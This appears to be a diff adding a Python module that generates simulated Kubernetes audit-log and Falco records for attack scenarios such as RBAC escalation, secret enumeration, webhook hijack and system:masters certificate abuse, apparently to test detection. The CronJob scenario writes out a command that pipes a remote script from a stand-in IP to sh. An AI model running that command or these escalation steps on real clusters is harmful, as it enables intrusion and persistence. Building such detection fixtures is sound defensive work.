@@ -1,0 +1,506 @@
+"""Attacks seen mainly in the Kubernetes audit log (some also at runtime)."""
+
+from __future__ import annotations
+
+import base64
+
+from keelwatch.simulate import manifests
+from keelwatch.simulate.cluster import KUBECTL_AGENT, Identity, Workload, service_account
+from keelwatch.simulate.records import rbac_reason
+from keelwatch.simulate.scenarios import Stage, scenario
+
+ATTACKER_AGENT = "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"
+ADMIN_REASON = rbac_reason("platform-admins", "cluster-admin", 'Group "platform-admins"')
+RBAC = "rbac.authorization.k8s.io"
+
+
+def _csr_pem(common_name: str, organisation: str) -> str:
+    """A placeholder PKCS#10 body naming the subject (base64 PEM, as kubectl sends it)."""
+    body = f"CN={common_name},O={organisation}".encode()
+    pem = (
+        b"-----BEGIN CERTIFICATE REQUEST-----\n"
+        + base64.b64encode(body)
+        + b"\n-----END CERTIFICATE REQUEST-----\n"
+    )
+    return base64.b64encode(pem).decode()
+
+
+@scenario(
+    "rbac-cluster-admin-binding",
+    "ClusterRoleBinding to cluster-admin for a service account",
+    ("T1098.006", "T1078"),
+    ("audit",),
+)
+def rbac_escalation(stage: Stage) -> None:
+    """A developer with escalate/bind rights binds a namespace service account to cluster-admin."""
+    human = stage.developer()
+    app = stage.app("http")
+    body = manifests.binding(
+        "ClusterRoleBinding",
+        f"{app.name}-ops",
+        "cluster-admin",
+        [manifests.subject("ServiceAccount", app.service_account, app.namespace)],
+    )
+    reason = rbac_reason("rbac-managers", "rbac-manager", f'User "{human.identity.username}"')
+    stage.audit(
+        0,
+        verb="get",
+        user=human.identity,
+        source_ip=human.source_ip,
+        user_agent=KUBECTL_AGENT,
+        resource="clusterroles",
+        name="cluster-admin",
+        group=RBAC,
+        reason=reason,
+    )
+    stage.audit(
+        4,
+        verb="create",
+        user=human.identity,
+        source_ip=human.source_ip,
+        user_agent=KUBECTL_AGENT,
+        resource="clusterrolebindings",
+        group=RBAC,
+        level="RequestResponse",
+        code=201,
+        request_object=body,
+        response_object=body,
+        reason=reason,
+        query="fieldManager=kubectl-create&fieldValidation=Strict",
+    )
+
+
+@scenario(
+    "secret-enumeration",
+    "Secrets listed across namespaces by an unusual user",
+    ("T1552.007", "T1613"),
+    ("audit",),
+)
+def secret_enumeration(stage: Stage) -> None:
+    """A developer's credentials list secrets cluster-wide, then namespace by namespace."""
+    human = stage.developer()
+    user = dict(user=human.identity, source_ip=human.source_ip, user_agent=KUBECTL_AGENT)
+    stage.audit(0, verb="list", resource="secrets", query="limit=500", code=403, **user)
+    namespaces = [*stage.cluster.namespaces, "kube-system", "monitoring", "cert-manager"]
+    for step, namespace in enumerate(namespaces):
+        allowed = namespace in stage.cluster.namespaces
+        stage.audit(
+            3 + step * 1.5,
+            verb="list",
+            resource="secrets",
+            namespace=namespace,
+            query="limit=500",
+            code=200 if allowed else 403,
+            reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
+            **user,
+        )
+    secret_ns = stage.cluster.namespaces[0]
+    stage.audit(
+        5 + len(namespaces) * 1.5,
+        verb="get",
+        resource="secrets",
+        namespace=secret_ns,
+        name=f"{secret_ns}-db-credentials",
+        **user,
+    )
+
+
+@scenario(
+    "cronjob-persistence",
+    "CronJob that fetches and runs a script, created by a human",
+    ("T1053.007",),
+    ("audit", "runtime"),
+)
+def cronjob_persistence(stage: Stage) -> None:
+    """A stolen kubeconfig creates a CronJob in kube-system that pipes a remote script to sh."""
+    human = stage.developer()
+    ip = stage.public_ip()
+    command = ["/bin/sh", "-c", f"curl -fsSL http://{ip}/k.sh | sh"]
+    spec = manifests.pod_spec(
+        [
+            manifests.container(
+                "sync", "docker.io/curlimages/curl:8.8.0", command=command, hardened=False
+            )
+        ],
+        restart="OnFailure",
+    )
+    body = manifests.cronjob("node-cache-sync", "kube-system", "*/5 * * * *", spec)
+    stage.audit(
+        0,
+        verb="create",
+        user=human.identity,
+        source_ip=ip,
+        user_agent=ATTACKER_AGENT,
+        resource="cronjobs",
+        namespace="kube-system",
+        group="batch",
+        level="Request",
+        code=201,
+        request_object=body,
+        reason=ADMIN_REASON,
+    )
+    job = Workload(
+        "node-cache-sync",
+        "kube-system",
+        "Job",
+        "worker",
+        "docker.io/curlimages/curl:8.8.0",
+        0,
+        "default",
+    )
+    pod = stage.new_pod(
+        job, name=f"node-cache-sync-2890{stage.rng.randrange(1000, 9999)}-{stage.ids.suffix(5)}"
+    )
+    stage.exec(
+        31,
+        pod,
+        binary="/bin/sh",
+        arguments=f'-c "curl -fsSL http://{ip}/k.sh | sh"',
+        parent_binary="/usr/bin/containerd-shim-runc-v2",
+    )
+
+
+@scenario(
+    "admission-webhook-hijack",
+    "MutatingWebhookConfiguration pointing outside the cluster",
+    ("T1078", "T1552.007"),
+    ("audit",),
+)
+def webhook_hijack(stage: Stage) -> None:
+    """An admin token registers a mutating webhook for pods and secrets served from outside."""
+    human = stage.admin()
+    ip = stage.public_ip()
+    body = manifests.mutating_webhook("pod-defaults", f"https://{ip}:8443/mutate")
+    stage.audit(
+        0,
+        verb="create",
+        user=human.identity,
+        source_ip=ip,
+        user_agent=ATTACKER_AGENT,
+        resource="mutatingwebhookconfigurations",
+        group="admissionregistration.k8s.io",
+        level="RequestResponse",
+        code=201,
+        request_object=body,
+        response_object=body,
+        reason=ADMIN_REASON,
+    )
+
+
+@scenario(
+    "anonymous-access",
+    "Anonymous access allowed, then used from the internet",
+    ("T1078.001", "T1613"),
+    ("audit",),
+)
+def anonymous_access(stage: Stage) -> None:
+    """A binding grants system:unauthenticated a role; anonymous requests then succeed."""
+    human = stage.admin()
+    body = manifests.binding(
+        "ClusterRoleBinding",
+        "public-status",
+        "view",
+        [manifests.subject("Group", "system:unauthenticated")],
+    )
+    stage.audit(
+        0,
+        verb="create",
+        user=human.identity,
+        source_ip=human.source_ip,
+        user_agent=KUBECTL_AGENT,
+        resource="clusterrolebindings",
+        group=RBAC,
+        level="RequestResponse",
+        code=201,
+        request_object=body,
+        response_object=body,
+        reason=ADMIN_REASON,
+    )
+    anonymous = Identity("system:anonymous", ("system:unauthenticated",))
+    ip = stage.public_ip()
+    reason = rbac_reason("public-status", "view", 'Group "system:unauthenticated"')
+    for step, (resource, namespace) in enumerate(
+        (("namespaces", None), ("pods", None), ("configmaps", "kube-system"))
+    ):
+        stage.audit(
+            60 + step * 2,
+            verb="list",
+            user=anonymous,
+            source_ip=ip,
+            user_agent="curl/8.5.0",
+            resource=resource,
+            namespace=namespace,
+            reason=reason,
+        )
+
+
+@scenario(
+    "forbidden-burst-discovery",
+    "Burst of forbidden requests from a compromised pod",
+    ("T1613", "T1069"),
+    ("audit", "runtime"),
+)
+def forbidden_burst(stage: Stage) -> None:
+    """An intruder in a pod probes what its service account may do: many 403s within a minute."""
+    pod = stage.pod("http")
+    identity = pod.sa_identity(stage.ids)
+    falco_fields = {
+        "container.id": pod.container_id[:12],
+        "container.name": pod.container,
+        "evt.type": "connect",
+        "fd.name": f"{pod.ip}:{stage.port()}->{stage.cluster.api_server_ip}:443",
+        "k8s.ns.name": pod.namespace,
+        "k8s.pod.name": pod.name,
+        "proc.cmdline": "kubectl get secrets -A",
+        "proc.name": "kubectl",
+        "proc.pname": "sh",
+        "user.name": "root",
+        "user.uid": 0,
+    }
+    stage.falco(
+        0,
+        rule="Contact K8S API Server From Container",
+        priority="Notice",
+        text="Unexpected connection to K8s API Server from container",
+        fields=falco_fields,
+        tags=["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
+        hostname=pod.node.name,
+    )
+    probes = (
+        ("secrets", None, "list"),
+        ("nodes", None, "list"),
+        ("clusterroles", None, "list"),
+        ("secrets", "kube-system", "list"),
+        ("pods", "kube-system", "list"),
+        ("namespaces", None, "list"),
+        ("clusterrolebindings", None, "list"),
+        ("serviceaccounts", "kube-system", "list"),
+        ("daemonsets", "kube-system", "list"),
+        ("configmaps", "kube-system", "get"),
+        ("persistentvolumes", None, "list"),
+        ("pods", None, "create"),
+    )
+    for step, (resource, namespace, verb) in enumerate(probes):
+        group = (
+            RBAC if resource.startswith("cluster") else ("apps" if resource == "daemonsets" else "")
+        )
+        stage.audit(
+            1 + step * 2.5,
+            verb=verb,
+            user=identity,
+            source_ip=pod.ip,
+            user_agent="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
+            resource=resource,
+            namespace=namespace,
+            group=group,
+            code=403,
+            name="kube-proxy" if verb == "get" else None,
+        )
+
+
+@scenario("port-forward", "Port-forward to a database pod", ("T1572",), ("audit",))
+def port_forward(stage: Stage) -> None:
+    """A developer tunnels to the database pod from a laptop."""
+    human = stage.developer()
+    pod = stage.pod("db", "cache")
+    stage.audit(
+        0,
+        verb="create",
+        user=human.identity,
+        source_ip=human.source_ip,
+        user_agent=KUBECTL_AGENT,
+        resource="pods",
+        namespace=pod.namespace,
+        name=pod.name,
+        subresource="portforward",
+        level="RequestResponse",
+        code=101,
+        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
+    )
+
+
+@scenario("nodes-proxy", "Kubelet API reached through nodes/proxy", ("T1609", "T1613"), ("audit",))
+def nodes_proxy(stage: Stage) -> None:
+    """A monitoring token is used to list the kubelet's pods and run a command via nodes/proxy."""
+    identity = service_account("monitoring", "prometheus", stage.ids)
+    node = stage.node()
+    pod = stage.pod()
+    ip = stage.public_ip()
+    reason = rbac_reason("prometheus", "prometheus", 'ServiceAccount "prometheus/monitoring"')
+    stage.audit(
+        0,
+        verb="get",
+        user=identity,
+        source_ip=ip,
+        user_agent="curl/8.5.0",
+        resource="nodes",
+        name=node.name,
+        subresource="proxy",
+        reason=reason,
+        uri=f"/api/v1/nodes/{node.name}/proxy/pods",
+    )
+    stage.audit(
+        9,
+        verb="create",
+        user=identity,
+        source_ip=ip,
+        user_agent="curl/8.5.0",
+        resource="nodes",
+        name=node.name,
+        subresource="proxy",
+        reason=reason,
+        uri=f"/api/v1/nodes/{node.name}/proxy/run/{pod.namespace}/{pod.name}/{pod.container}?cmd=id",
+    )
+
+
+@scenario(
+    "csr-system-masters",
+    "Client certificate for system:masters requested and approved",
+    ("T1649", "T1098"),
+    ("audit",),
+)
+def csr_masters(stage: Stage) -> None:
+    """A CSR with O=system:masters is created and approved, then the new identity is used."""
+    human = stage.admin()
+    name = f"csr-{stage.ids.suffix(5)}"
+    pem = _csr_pem("break-glass", "system:masters")
+    common = dict(
+        user=human.identity,
+        source_ip=human.source_ip,
+        user_agent=KUBECTL_AGENT,
+        group="certificates.k8s.io",
+        reason=ADMIN_REASON,
+    )
+    body = manifests.csr(name, pem)
+    stage.audit(
+        0,
+        verb="create",
+        resource="certificatesigningrequests",
+        level="RequestResponse",
+        code=201,
+        request_object=body,
+        response_object=body,
+        **common,
+    )
+    approved = manifests.csr_approval(name, pem, [*human.identity.groups])
+    stage.audit(
+        20,
+        verb="update",
+        resource="certificatesigningrequests",
+        name=name,
+        subresource="approval",
+        level="RequestResponse",
+        request_object=approved,
+        response_object=approved,
+        **common,
+    )
+    masters = Identity("break-glass", ("system:masters", "system:authenticated"))
+    ip = stage.public_ip()
+    for step, resource in enumerate(("secrets", "nodes")):
+        stage.audit(
+            200 + step * 3,
+            verb="list",
+            user=masters,
+            source_ip=ip,
+            user_agent=ATTACKER_AGENT,
+            resource=resource,
+            query="limit=500",
+        )
+
+
+@scenario(
+    "impersonation", "A developer impersonates a cluster administrator", ("T1078",), ("audit",)
+)
+def impersonation(stage: Stage) -> None:
+    """kubectl --as=admin --as-group=system:masters by someone who was granted impersonate."""
+    human = stage.developer()
+    target = Identity("admin", ("system:masters", "system:authenticated"))
+    reason = rbac_reason("impersonators", "impersonator", f'User "{human.identity.username}"')
+    for step, (verb, resource, namespace) in enumerate(
+        (("list", "secrets", "kube-system"), ("get", "nodes", None))
+    ):
+        stage.audit(
+            step * 6,
+            verb=verb,
+            user=human.identity,
+            impersonated=target,
+            source_ip=human.source_ip,
+            user_agent=KUBECTL_AGENT,
+            resource=resource,
+            namespace=namespace,
+            reason=reason,
+            query="limit=500" if verb == "list" else "",
+        )
+
+
+@scenario(
+    "defense-evasion-deletions",
+    "NetworkPolicy and events deleted to cover tracks",
+    ("T1562.001", "T1070"),
+    ("audit",),
+)
+def deletions(stage: Stage) -> None:
+    """A network policy isolating the database is deleted, then the namespace's events."""
+    human = stage.developer()
+    namespace = stage.app("db", "cache").namespace
+    common = dict(
+        user=human.identity,
+        source_ip=human.source_ip,
+        user_agent=KUBECTL_AGENT,
+        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
+    )
+    stage.audit(
+        0,
+        verb="delete",
+        resource="networkpolicies",
+        namespace=namespace,
+        name="deny-db-ingress",
+        group="networking.k8s.io",
+        level="Request",
+        request_object={"kind": "DeleteOptions", "apiVersion": "v1"},
+        **common,
+    )
+    stage.audit(
+        45,
+        verb="deletecollection",
+        resource="events",
+        namespace=namespace,
+        level="Request",
+        **common,
+    )
+
+
+@scenario(
+    "kube-system-workload",
+    "Workload created in kube-system by a human",
+    ("T1610", "T1036.005"),
+    ("audit",),
+)
+def kube_system_workload(stage: Stage) -> None:
+    """A Deployment named like a system component appears in kube-system, created by a person."""
+    human = stage.admin()
+    spec = manifests.pod_spec(
+        [
+            manifests.container(
+                "kube-proxy-helper",
+                "registry.k8s.io/kube-proxy:v1.29.4",
+                command=["/bin/sh", "-c", "sleep infinity"],
+            )
+        ],
+        service_account="kube-proxy",
+    )
+    body = manifests.workload("Deployment", "kube-proxy-helper", "kube-system", spec, replicas=1)
+    stage.audit(
+        0,
+        verb="create",
+        user=human.identity,
+        source_ip=human.source_ip,
+        user_agent=KUBECTL_AGENT,
+        resource="deployments",
+        namespace="kube-system",
+        group="apps",
+        level="Request",
+        code=201,
+        request_object=body,
+        reason=ADMIN_REASON,
+    )
